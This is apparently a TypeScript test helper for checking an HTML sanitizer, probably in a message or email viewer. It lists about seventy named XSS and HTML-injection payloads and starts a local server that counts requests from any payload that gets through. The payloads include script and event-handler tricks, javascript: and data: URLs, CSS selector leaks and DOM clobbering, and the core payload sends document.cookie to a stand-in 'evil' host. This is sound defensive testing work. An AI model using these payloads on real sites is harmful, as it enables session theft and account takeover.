/** Collects the known ways in which HTML can do harm, one at a time. */
import { createServer } from 'node:http';

/**
 * Returns tricks that report to `evil`, a server that only counts requests. `ran` is code that also reports, by a
 * request and by a mark on the window above.
 */
export function tricks(evil: string): Readonly<Record<string, string>> {
  const ran = `new Image().src='${evil}/ran?'+document.cookie;try{top.document.title='ran';top.ran=1}catch(e){}`;
  const script = `<script>${ran}</script>`;
  return {
    'script element': script,
    'script from elsewhere': `<script src="${evil}/script.js"></script>`,
    'script in mixed case, with a slash': `<ScRiPt/x>${ran}</sCrIpT >`,
    'script without an end': `<script>${ran}`,
    'script as a module': `<script type="module">${ran}</script>`,
    'script that two tags make': `<scr<script>ipt>${ran}</scr</script>ipt>`,
    'script behind a comment that ends early': `<!--><script>${ran}</script>-->`,
    'script behind a conditional comment': `<!--[if gte IE 4]>${script}<![endif]-->`,
    'script behind a title that is open': `<title><a title="</title>${script.replaceAll('"', '&quot;')}">`,
    'script behind noscript': `<noscript><p title="</noscript>${script}">`,
    'script behind a style of SVG': `<svg><style><img src=x onerror="${ran}"></style></svg>`,
    'script behind a style of MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
    'script behind a text area': `<textarea></textarea>${script}`,
    'script behind template': `<template>${script}</template>`,
    'script behind xmp, plaintext and noembed': `<xmp></xmp><noembed></noembed>${script}<plaintext>`,
    'onerror of an image': `<img src="x" onerror="${ran}">`,
    'onerror without quotes and blanks': `<img/src=x/onerror=top.ran=1>`,
    'onerror with new lines': `<img src=x onerror\n=\n"${ran}">`,
    'onload of a body': `</head><body onload="${ran}" onpageshow="${ran}" background="${evil}/background">`,
    'onload of SVG': `<svg onload="${ran}"><circle r="1"/></svg>`,
    'onbegin of an animation': `<svg><animate onbegin="${ran}" attributeName="x" dur="1s"/></svg>`,
    'ontoggle of details': `<details open ontoggle="${ran}"><summary>x</summary></details>`,
    'onfocus with autofocus': `<input autofocus onfocus="${ran}"><select autofocus onfocus="${ran}"></select>`,
    'onstart of marquee': `<marquee onstart="${ran}" onbounce="${ran}" loop="1" width="0">x</marquee>`,
    'onerror of video, audio and source': `<video src=x onerror="${ran}"><source onerror="${ran}" src=y></video><audio src=x onerror="${ran}">`,
    onanimationstart: `<style>@keyframes x{from{left:0}}p{animation:x 1ms}</style><p onanimationstart="${ran}">x</p>`,
    ontransitionrun: `<p style="transition:color 1ms" ontransitionrun="${ran}">x</p>`,
    'onscrollend and oncontentvisibilityautostatechange': `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${ran}">x</p>`,
    'popover and its events': `<button popovertarget=x>y</button><p popover id=x onbeforetoggle="${ran}">z</p>`,
    'javascript: in a link': `<a id="bait" href="javascript:${ran}">click</a>`,
    'javascript: with entities and tabs': `<a id="bait" href="java&#9;script&colon;${ran}">click</a>`,
    'javascript: in an image, a background and a table': `<img src="javascript:${ran}"><table background="javascript:${ran}"><tr><td>x`,
    'javascript: in a frame': `<iframe src="javascript:${ran}"></iframe>`,
    'vbscript: and data: in links': `<a id="bait" href="data:text/html,${encodeURIComponent(script)}">click</a><a href="vbscript:x">y</a>`,
    'data: HTML in frames and objects': `<iframe src="data:text/html,${encodeURIComponent(script)}"></iframe><object data="data:text/html,${encodeURIComponent(script)}"></object><embed src="data:text/html,${encodeURIComponent(script)}">`,
    'iframe with srcdoc': `<iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe>`,
    'iframe from elsewhere': `<iframe src="${evil}/frame"></iframe><frameset><frame src="${evil}/frame"></frameset>`,
    'iframe of the pages themselves': `<iframe src="/ui/1/outbox"></iframe><img src="/ui/1/outbox"><img src="/control/stop">`,
    'object, embed and applet': `<object data="${evil}/object"><param name="movie" value="${evil}/movie"></object><embed src="${evil}/embed"><applet code="${evil}/applet"></applet>`,
    'portal and fenced frames': `<portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
    'SVG in an image and in use': `<svg><image href="${evil}/svg" xlink:href="${evil}/svg2"/><use href="${evil}/use#x"/><feImage href="${evil}/fe"/></svg>`,
    'foreign object': `<svg><foreignObject><iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe></foreignObject></svg>`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
    'meta refresh to a script': `<META HTTP-EQUIV="Refresh" CONTENT="0;URL='javascript:${ran}'">`,
    'meta that sets a cookie or a policy': `<meta http-equiv="Set-Cookie" content="a=1"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url">`,
    base: `<base href="${evil}/"><img src="relative"><a id="bait" href="x">click</a>`,
    'base with a target': `<base target="_top"><a id="bait" href="${evil}/base-target">click</a>`,
    'form that is sent': `<form action="${evil}/form" target="_top"><input type="submit" id="bait" value="click"></form>`,
    'form by a button elsewhere': `<form id="f"></form><button id="bait" form="f" formaction="${evil}/formaction" formtarget="_top">click</button>`,
    'form of the pages themselves': `<form method="post" action="/ui/1/clock"><input name="do" value="run"><button id="bait">click</button></form>`,
    'link to the top window': `<a id="bait" href="${evil}/top" target="_top">click</a>`,
    'link to a new window': `<a id="bait" href="${evil}/blank" target="_blank" rel="opener">click</a>`,
    'link in the frame itself': `<a id="bait" href="${evil}/self">click</a>`,
    'link with a ping': `<a id="bait" href="#x" ping="${evil}/ping">click</a>`,
    'link of an image map': `<img usemap="#m" width="50" height="50" alt="x"><map name="m"><area id="bait" href="${evil}/area" shape="default"></map>`,
    'link of SVG': `<svg width="50" height="50"><a id="bait" xlink:href="${evil}/svg-a" target="_top"><text y="20">click</text></a></svg>`,
    'link that an animation makes': `<svg width="50" height="50"><a id="bait"><animate attributeName="href" values="${evil}/animated"/><set attributeName="href" to="${evil}/set"/><text y="20">click</text></a></svg>`,
    'link behind a style of SVG': `<svg><style><a id="bait" href="${evil}/hidden" target="_top">click</a></style></svg>`,
    'link of MathML': `<math href="${evil}/math" id="bait"><mi>click</mi></math>`,
    'style from elsewhere': `<link rel="stylesheet" href="${evil}/style.css"><style>@import url(${evil}/import.css);@import "${evil}/import2.css";</style>`,
    'style that loads pictures and fonts': `<style>@font-face{font-family:x;src:url(${evil}/font)}p{font-family:x;background:url(${evil}/picture);list-style:url(${evil}/list);cursor:url(${evil}/cursor),auto;content:url(${evil}/content)}p::before{content:image-set("${evil}/set" 1x)}</style><p style="background-image:url(${evil}/inline)">x</p>`,
    'style that reads by selectors': `<style>input[value^=a]{background:url(${evil}/a)}:root:has(a){--x:url(${evil}/has);background:var(--x)}</style><input value="abc">`,
    'style of old browsers': `<style>p{behavior:url(${evil}/htc);-moz-binding:url(${evil}/xbl);width:expression(${ran})}</style><p>x</p>`,
    'link that is fetched ahead': `<link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="script" href="${evil}/preload"><link rel="dns-prefetch" href="${evil}"><link rel="preconnect" href="${evil}"><link rel="modulepreload" href="${evil}/module"><link rel="icon" href="${evil}/icon"><link rel="manifest" href="${evil}/manifest">`,
    'speculation rules': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/speculated"]}]}</script>`,
    'import map': `<script type="importmap">{"imports":{"x":"${evil}/x.js"}}</script><script type="module">import "x"</script>`,
    'pictures of every kind': `<img src="${evil}/img" srcset="${evil}/srcset 2x"><picture><source srcset="${evil}/source"><img></picture><video poster="${evil}/poster" src="${evil}/video"><track src="${evil}/track"></video><audio src="${evil}/audio" autoplay></audio><input type="image" src="${evil}/input"><body background="${evil}/body">`,
    'the tracking pixel of the message itself': `<img src="/t/o/t2-480">`,
    'declarative shadow root': `<div><template shadowrootmode="open">${script}<img src=x onerror="${ran}"></template></div>`,
    'UTF-7 and other codings': `<meta charset="utf-7">+ADw-script+AD4-top.ran=1+ADw-/script+AD4-`,
    'XML, CDATA and processing instructions': `<?xml version="1.0"?><![CDATA[${script}]]><?xml-stylesheet href="${evil}/xsl"?>`,
    'a page that ends and begins again': `</body></html><html><head>${script}</head><body onload="${ran}">`,
    'DOM clobbering': `<form name="htmx"><input name="config"></form><img name="getElementById"><a id="main" data-live="here"></a>`,
    'htmx attributes': `<div hx-get="${evil}/htmx" hx-trigger="load" data-hx-on:load="${ran}" hx-on::load="${ran}">x</div>`,
    'dialogs, downloads and windows': `<a id="bait" href="${evil}/download" download>click</a><script>alert(1);open('${evil}/open')</script>`,
  };
}

export interface Elsewhere {
  /** The address of the server: `http://127.0.0.1:4711`. */
  readonly address: string;
  /** Requests to the server, except for its own pages. */
  readonly came: string[];
  readonly close: () => Promise<void>;
}

/**
 * Starts a server that counts its visitors, and sends a script to each.
 * @param pages its HTML responses at `/bare/0`, `/bare/1` …
 */
export async function startElsewhere(
  pages: (address: string) => readonly string[] = () => [],
): Promise<Elsewhere> {
  const came: string[] = [];
  let address = '';
  const server = createServer(({ url = '', method }, answer) => {
    const page = pages(address)[Number(/^\/bare\/([0-9]+)$/.exec(url)?.[1] ?? Number.NaN)];
    if (page !== undefined) {
      answer.setHeader('content-type', 'text/html; charset=utf-8');
      answer.end(`<!doctype html>${page}`);
      return;
    }
    came.push(`${method} ${url}`);
    answer.setHeader('access-control-allow-origin', '*');
    answer.end('window.ran = 1; top.ran = 1');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const at = server.address();
  address = `http://127.0.0.1:${typeof at === 'object' ? at?.port : 0}`;
  return {
    address,
    came,
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
